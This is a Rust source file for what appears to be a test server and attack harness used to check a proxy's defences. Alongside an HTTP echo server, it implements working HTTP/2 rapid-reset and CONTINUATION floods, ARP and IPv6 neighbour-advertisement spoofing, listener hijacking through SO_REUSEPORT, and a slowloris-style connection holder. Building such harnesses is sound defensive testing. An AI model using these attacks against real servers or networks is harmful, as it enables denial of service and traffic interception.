//! A test destination: an httpbin-like HTTP server (h1 + h2c) and a TCP echo server.
//! `authz-testsrv http ADDR` | `authz-testsrv echo ADDR` | `authz-testsrv file ADDR PATH FILE`
//! `authz-testsrv h2get ADDR PATH...`: an HTTP/2 (prior knowledge) client sending every path on one
//! connection, printing "STATUS BODY" per line.
//! `authz-testsrv h2flood ADDR rapid-reset|continuation N`: an HTTP/2 attacker (raw frames),
//! printing what the server did as JSON {goaway, responses, closed}.
//! `authz-testsrv h2req ADDR AUTHORITY HOST PATH`: one HTTP/2 request with that `:authority` and,
//! unless HOST is `-`, a `host` header; prints "STATUS BODY".
//! `authz-testsrv tunnels ADDR N`: opens N connections asking for a WebSocket upgrade, prints
//! {"upgraded": k, "refused": N-k}, and holds the tunnels open until its stdin closes.
//! The server answers `Upgrade: h2c` with 101 and then speaks HTTP/2 on the connection, as Go's
//! h2c handler, Tomcat or nghttpx do, so a proxy that forwards the upgrade is caught.
//! `authz-testsrv forge-arp IFACE CLAIMED_V4 TO_V4 TO_MAC` and
//! `authz-testsrv forge-na IFACE FROM_V6 CLAIMED_V6 TO_V6 TO_MAC`: what a pod with CAP_NET_RAW
//! can send, a raw ARP reply / unsolicited neighbour advertisement (override) claiming an
//! address to one neighbour.
//! `authz-testsrv steal SECONDS PORT...`: a root process in a pod joining whatever listeners on
//! 127.0.0.1:PORT it can with SO_REUSEPORT; prints `joined N`, then after SECONDS `stolen K`:
//! connections it accepted that were meant for another address (handed over by sk_lookup).
//! `authz-testsrv slow ADDR[,ADDR...] N SECONDS`: opens N connections spread over the addresses,
//! each sending a request head it never finishes, holds them SECONDS, then prints `held K`: how
//! many the other side had not closed.
//! Every HTTP reply is JSON: {client, method, path, version, headers, body_len, body_sha256};
//! `GET /__count` answers how many requests the server has seen (not counting itself).
use std::{
    convert::Infallible,
    net::SocketAddr,
    sync::atomic::{AtomicU64, Ordering},
    time::Duration,
};

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::{body::Incoming, Request, Response};
use hyper_util::rt::{TokioExecutor, TokioIo};
use sha2::{Digest, Sha256};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};

#[tokio::main(flavor = "current_thread")]
async fn main() -> anyhow::Result<()> {
    let args: Vec<String> = std::env::args().collect();
    let mode = args.get(1).map(String::as_str).unwrap_or("http");
    if mode == "forge-arp" || mode == "forge-na" {
        return forge(mode, &args[2..]);
    }
    if mode == "slow" {
        return slow(&args[2], args[3].parse()?, args[4].parse()?).await;
    }
    if mode == "steal" {
        return steal(args[2].parse()?, &args[3..]).await;
    }
    let addr: SocketAddr = args
        .get(2)
        .map(String::as_str)
        .unwrap_or("0.0.0.0:8000")
        .parse()?;
    if mode == "h2get" {
        return h2get(addr, &args[3..]).await;
    }
    if mode == "h2flood" {
        return h2flood(addr, &args[3], args[4].parse()?).await;
    }
    if mode == "h2req" {
        return h2req(addr, &args[3], &args[4], &args[5]).await;
    }
    if mode == "tunnels" {
        return tunnels(addr, args[3].parse()?).await;
    }
    let listener = TcpListener::bind(addr).await?;
    let file = match mode {
        "file" => Some((args[3].clone(), Bytes::from(std::fs::read(&args[4])?))),
        _ => None,
    };
    println!("listening {addr}");
    loop {
        let (mut stream, peer) = listener.accept().await?;
        let file = file.clone();
        match mode {
            "echo" => {
                tokio::spawn(async move {
                    let mut buf = vec![0u8; 65536];
                    while let Ok(n) = stream.read(&mut buf).await {
                        if n == 0 || stream.write_all(&buf[..n]).await.is_err() {
                            break;
                        }
                    }
                });
            }
            _ => {
                tokio::spawn(async move {
                    let svc = hyper::service::service_fn(move |req| {
                        let file = file.clone();
                        async move { Ok::<_, Infallible>(reply(peer, req, file).await) }
                    });
                    let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                        .serve_connection_with_upgrades(TokioIo::new(stream), svc)
                        .await;
                });
            }
        }
    }
}

static REQUESTS: AtomicU64 = AtomicU64::new(0);

async fn reply(
    peer: SocketAddr,
    mut req: Request<Incoming>,
    file: Option<(String, Bytes)>,
) -> Response<Full<Bytes>> {
    if req.uri().path() == "/__count" {
        let n = REQUESTS.load(Ordering::SeqCst);
        return Response::new(Full::new(Bytes::from(format!("{{\"count\":{n}}}"))));
    }
    REQUESTS.fetch_add(1, Ordering::SeqCst);
    if let Some((path, body)) = file {
        let status = if req.uri().path() == path { 200 } else { 404 };
        let body = if status == 200 { body } else { Bytes::new() };
        return Response::builder()
            .status(status)
            .header("content-type", "application/json")
            .body(Full::new(body))
            .unwrap();
    }
    if req
        .headers()
        .get("upgrade")
        .is_some_and(|v| v.as_bytes().eq_ignore_ascii_case(b"h2c"))
    {
        // h2c upgrade: from here the connection speaks HTTP/2, and every stream is answered.
        let on = hyper::upgrade::on(&mut req);
        tokio::spawn(async move {
            if let Ok(up) = on.await {
                let svc = hyper::service::service_fn(move |req| async move {
                    REQUESTS.fetch_add(1, Ordering::SeqCst);
                    Ok::<_, Infallible>(describe(peer, req).await)
                });
                let _ = hyper::server::conn::http2::Builder::new(TokioExecutor::new())
                    .serve_connection(up, svc)
                    .await;
            }
        });
        return Response::builder()
            .status(101)
            .header("connection", "upgrade")
            .header("upgrade", "h2c")
            .body(Full::new(Bytes::new()))
            .unwrap();
    }
    if req
        .headers()
        .get("upgrade")
        .is_some_and(|v| v == "websocket")
    {
        // Minimal upgrade: switch protocols, then echo bytes.
        let on = hyper::upgrade::on(&mut req);
        tokio::spawn(async move {
            if let Ok(up) = on.await {
                let mut io = TokioIo::new(up);
                let mut buf = vec![0u8; 4096];
                while let Ok(n) = io.read(&mut buf).await {
                    if n == 0 || io.write_all(&buf[..n]).await.is_err() {
                        break;
                    }
                }
            }
        });
        return Response::builder()
            .status(101)
            .header("connection", "upgrade")
            .header("upgrade", "websocket")
            .body(Full::new(Bytes::new()))
            .unwrap();
    }
    describe(peer, req).await
}

/// The request as JSON: what the upstream saw.
async fn describe(peer: SocketAddr, req: Request<Incoming>) -> Response<Full<Bytes>> {
    let method = req.method().to_string();
    let path = req.uri().to_string();
    let version = format!("{:?}", req.version());
    let mut headers = serde_json::Map::new();
    for (k, v) in req.headers() {
        let v = String::from_utf8_lossy(v.as_bytes()).to_string();
        match headers.get_mut(k.as_str()) {
            Some(serde_json::Value::String(prev)) => {
                prev.push(',');
                prev.push_str(&v);
            }
            _ => {
                headers.insert(k.as_str().to_string(), v.into());
            }
        }
    }
    let mut body = req.into_body();
    let (mut len, mut sha) = (0u64, Sha256::new());
    while let Some(Ok(frame)) = body.frame().await {
        if let Some(d) = frame.data_ref() {
            len += d.len() as u64;
            sha.update(d);
        }
    }
    let out = serde_json::json!({
        "client": peer.ip().to_string(),
        "client_port": peer.port(),
        "method": method,
        "path": path,
        "version": version,
        "headers": headers,
        "body_len": len,
        "body_sha256": format!("{:x}", sha.finalize()),
    });
    Response::builder()
        .header("content-type", "application/json")
        .body(Full::new(Bytes::from(out.to_string())))
        .unwrap()
}

async fn h2get(addr: SocketAddr, paths: &[String]) -> anyhow::Result<()> {
    let tcp = tokio::net::TcpStream::connect(addr).await?;
    let (mut send, conn) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tcp)).await?;
    tokio::spawn(conn);
    for p in paths {
        let req =
            Request::get(format!("http://{addr}{p}")).body(http_body_util::Empty::<Bytes>::new())?;
        let resp = send.send_request(req).await?;
        let status = resp.status().as_u16();
        let body = resp.into_body().collect().await?.to_bytes();
        println!("{status} {}", String::from_utf8_lossy(&body));
    }
    Ok(())
}

async fn h2req(addr: SocketAddr, authority: &str, host: &str, path: &str) -> anyhow::Result<()> {
    let tcp = tokio::net::TcpStream::connect(addr).await?;
    let (mut send, conn) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tcp)).await?;
    tokio::spawn(conn);
    let mut req = Request::get(format!("http://{authority}{path}"));
    if host != "-" {
        req = req.header("host", host);
    }
    let resp = send
        .send_request(req.body(http_body_util::Empty::<Bytes>::new())?)
        .await?;
    let status = resp.status().as_u16();
    let body = resp.into_body().collect().await?.to_bytes();
    println!("{status} {}", String::from_utf8_lossy(&body));
    Ok(())
}

async fn tunnels(addr: SocketAddr, n: usize) -> anyhow::Result<()> {
    let mut open = Vec::new();
    for _ in 0..n {
        let Ok(Ok(mut s)) =
            tokio::time::timeout(Duration::from_secs(3), tokio::net::TcpStream::connect(addr))
                .await
        else {
            continue;
        };
        let ask =
            b"GET /ws HTTP/1.1\r\nHost: w\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n";
        if s.write_all(ask).await.is_err() {
            continue;
        }
        let mut head = Vec::new();
        let mut b = [0u8; 1];
        let read = async {
            while !head.ends_with(b"\r\n\r\n") {
                match s.read(&mut b).await {
                    Ok(1) => head.push(b[0]),
                    _ => break,
                }
            }
        };
        let _ = tokio::time::timeout(Duration::from_secs(3), read).await;
        if head.starts_with(b"HTTP/1.1 101") {
            open.push(s);
        }
    }
    println!(
        "{}",
        serde_json::json!({"upgraded": open.len(), "refused": n - open.len()})
    );
    // Hold the tunnels until told to stop.
    let mut stdin = tokio::io::stdin();
    let mut sink = Vec::new();
    let _ = stdin.read_to_end(&mut sink).await;
    drop(open);
    Ok(())
}

/// An HTTP/2 frame: 24-bit length, type, flags, stream id, payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// HPACK for GET http://w/ : indexed :method GET, :scheme http, :path /, literal :authority.
fn get_block() -> Vec<u8> {
    vec![0x82, 0x86, 0x84, 0x01, 0x01, b'w']
}

/// HPACK literal header (new name, not indexed), about 100 bytes.
fn junk_header(i: usize) -> Vec<u8> {
    let name = format!("x-junk-{i}");
    let value = "v".repeat(90);
    let mut b = vec![0x00, name.len() as u8];
    b.extend_from_slice(name.as_bytes());
    b.push(value.len() as u8);
    b.extend_from_slice(value.as_bytes());
    b
}

async fn h2flood(addr: SocketAddr, kind: &str, n: usize) -> anyhow::Result<()> {
    const HEADERS: u8 = 1;
    const RST_STREAM: u8 = 3;
    const SETTINGS: u8 = 4;
    const GOAWAY: u8 = 7;
    const CONTINUATION: u8 = 9;
    const END_STREAM: u8 = 0x1;
    const END_HEADERS: u8 = 0x4;
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    out.extend(frame(SETTINGS, 0, 0, &[]));
    match kind {
        "rapid-reset" => {
            for i in 0..n as u32 {
                let id = 1 + 2 * i;
                out.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &get_block()));
                out.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
            }
        }
        "continuation" => {
            out.extend(frame(HEADERS, END_STREAM, 1, &get_block()));
            for i in 0..n {
                out.extend(frame(CONTINUATION, 0, 1, &junk_header(i)));
            }
        }
        other => anyhow::bail!("unknown flood {other}"),
    }
    let (mut r, mut w) = tokio::net::TcpStream::connect(addr).await?.into_split();
    let writer = tokio::spawn(async move {
        let _ = w.write_all(&out).await;
        w
    });
    let mut goaway = None;
    let mut responses = 0;
    let mut closed = false;
    let mut buf = Vec::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    loop {
        let mut chunk = [0u8; 16384];
        match tokio::time::timeout_at(deadline, r.read(&mut chunk)).await {
            Ok(Ok(0)) | Ok(Err(_)) => {
                closed = true;
                break;
            }
            Ok(Ok(k)) => buf.extend_from_slice(&chunk[..k]),
            Err(_) => break,
        }
        while buf.len() >= 9 {
            let len =
                (usize::from(buf[0]) << 16) | (usize::from(buf[1]) << 8) | usize::from(buf[2]);
            if buf.len() < 9 + len {
                break;
            }
            match buf[3] {
                HEADERS => responses += 1,
                GOAWAY if len >= 8 => {
                    goaway = Some(u32::from_be_bytes([buf[13], buf[14], buf[15], buf[16]]))
                }
                _ => {}
            }
            buf.drain(..9 + len);
        }
    }
    writer.abort();
    println!(
        "{}",
        serde_json::json!({"goaway": goaway, "responses": responses, "closed": closed})
    );
    Ok(())
}

fn mac(s: &str) -> anyhow::Result<[u8; 6]> {
    let v: Vec<u8> = s
        .trim()
        .split(':')
        .map(|b| u8::from_str_radix(b, 16))
        .collect::<Result<_, _>>()?;
    v.try_into().map_err(|_| anyhow::anyhow!("bad MAC {s}"))
}

/// One raw frame out of `args[0]`, as a pod with CAP_NET_RAW sends it (AF_PACKET).
fn forge(mode: &str, args: &[String]) -> anyhow::Result<()> {
    use std::net::{Ipv4Addr, Ipv6Addr};
    let iface = &args[0];
    let own = mac(&std::fs::read_to_string(format!(
        "/sys/class/net/{iface}/address"
    ))?)?;
    let (to_mac, frame) = if mode == "forge-arp" {
        let claimed: Ipv4Addr = args[1].parse()?;
        let to: Ipv4Addr = args[2].parse()?;
        let to_mac = mac(&args[3])?;
        let mut f = vec![];
        f.extend_from_slice(&to_mac);
        f.extend_from_slice(&own);
        f.extend_from_slice(&0x0806u16.to_be_bytes());
        f.extend_from_slice(&[0, 1, 8, 0, 6, 4, 0, 2]); // Ethernet, IPv4, reply
        f.extend_from_slice(&own);
        f.extend_from_slice(&claimed.octets());
        f.extend_from_slice(&to_mac);
        f.extend_from_slice(&to.octets());
        (to_mac, f)
    } else {
        let from: Ipv6Addr = args[1].parse()?;
        let claimed: Ipv6Addr = args[2].parse()?;
        let to: Ipv6Addr = args[3].parse()?;
        let to_mac = mac(&args[4])?;
        // Neighbour advertisement, override flag, with the target link-layer address option.
        let mut icmp = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
        icmp.extend_from_slice(&claimed.octets());
        icmp.extend_from_slice(&[2, 1]);
        icmp.extend_from_slice(&own);
        let mut sum: u32 = 0;
        let mut add = |b: &[u8]| {
            for c in b.chunks(2) {
                sum += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
            }
        };
        add(&from.octets());
        add(&to.octets());
        add(&(icmp.len() as u32).to_be_bytes());
        add(&[0, 0, 0, 58]);
        add(&icmp);
        while sum > 0xffff {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        icmp[2..4].copy_from_slice(&(!(sum as u16)).to_be_bytes());
        let mut f = vec![];
        f.extend_from_slice(&to_mac);
        f.extend_from_slice(&own);
        f.extend_from_slice(&0x86ddu16.to_be_bytes());
        f.extend_from_slice(&[0x60, 0, 0, 0]);
        f.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
        f.extend_from_slice(&[58, 255]);
        f.extend_from_slice(&from.octets());
        f.extend_from_slice(&to.octets());
        f.extend_from_slice(&icmp);
        (to_mac, f)
    };
    let fd = unsafe {
        libc::socket(
            libc::AF_PACKET,
            libc::SOCK_RAW,
            i32::from((libc::ETH_P_ALL as u16).to_be()),
        )
    };
    anyhow::ensure!(fd >= 0, "AF_PACKET: {}", std::io::Error::last_os_error());
    let name = std::ffi::CString::new(iface.as_str())?;
    let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    addr.sll_family = libc::AF_PACKET as u16;
    addr.sll_ifindex = unsafe { libc::if_nametoindex(name.as_ptr()) } as i32;
    addr.sll_halen = 6;
    addr.sll_addr[..6].copy_from_slice(&to_mac);
    let n = unsafe {
        libc::sendto(
            fd,
            frame.as_ptr().cast(),
            frame.len(),
            0,
            (&addr as *const libc::sockaddr_ll).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as u32,
        )
    };
    unsafe { libc::close(fd) };
    anyhow::ensure!(n > 0, "sendto: {}", std::io::Error::last_os_error());
    println!("sent {} bytes", frame.len());
    Ok(())
}

async fn steal(seconds: u64, ports: &[String]) -> anyhow::Result<()> {
    use std::io::Write;
    let mut joined = vec![];
    for p in ports {
        let sock = tokio::net::TcpSocket::new_v4()?;
        sock.set_reuseaddr(true)?;
        sock.set_reuseport(true)?;
        if sock.bind(format!("127.0.0.1:{p}").parse()?).is_ok() {
            if let Ok(l) = sock.listen(128) {
                joined.push(l);
            }
        }
    }
    println!("joined {}", joined.len());
    std::io::stdout().flush()?;
    let stolen = std::sync::Arc::new(AtomicU64::new(0));
    for l in joined {
        let stolen = stolen.clone();
        tokio::spawn(async move {
            while let Ok((mut s, _)) = l.accept().await {
                if s.local_addr().is_ok_and(|a| !a.ip().is_loopback()) {
                    stolen.fetch_add(1, Ordering::Relaxed);
                    let _ = s
                        .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nstolen")
                        .await;
                }
            }
        });
    }
    tokio::time::sleep(Duration::from_secs(seconds)).await;
    println!("stolen {}", stolen.load(Ordering::Relaxed));
    Ok(())
}

async fn slow(addrs: &str, n: usize, seconds: u64) -> anyhow::Result<()> {
    let addrs: Vec<SocketAddr> = addrs.split(',').map(str::parse).collect::<Result<_, _>>()?;
    let closed = std::sync::Arc::new(AtomicU64::new(0));
    let mut opened = 0u64;
    let mut held = vec![];
    for i in 0..n {
        let Ok(mut s) = tokio::net::TcpStream::connect(addrs[i % addrs.len()]).await else {
            continue;
        };
        opened += 1;
        let _ = s.write_all(b"GET /slow HTTP/1.1\r\nX: ").await;
        let closed = closed.clone();
        held.push(tokio::spawn(async move {
            let mut b = [0u8; 512];
            loop {
                match s.read(&mut b).await {
                    Ok(0) | Err(_) => break,
                    Ok(_) => {}
                }
            }
            closed.fetch_add(1, Ordering::Relaxed);
        }));
    }
    tokio::time::sleep(Duration::from_secs(seconds)).await;
    println!("held {}", opened - closed.load(Ordering::Relaxed));
    Ok(())
}
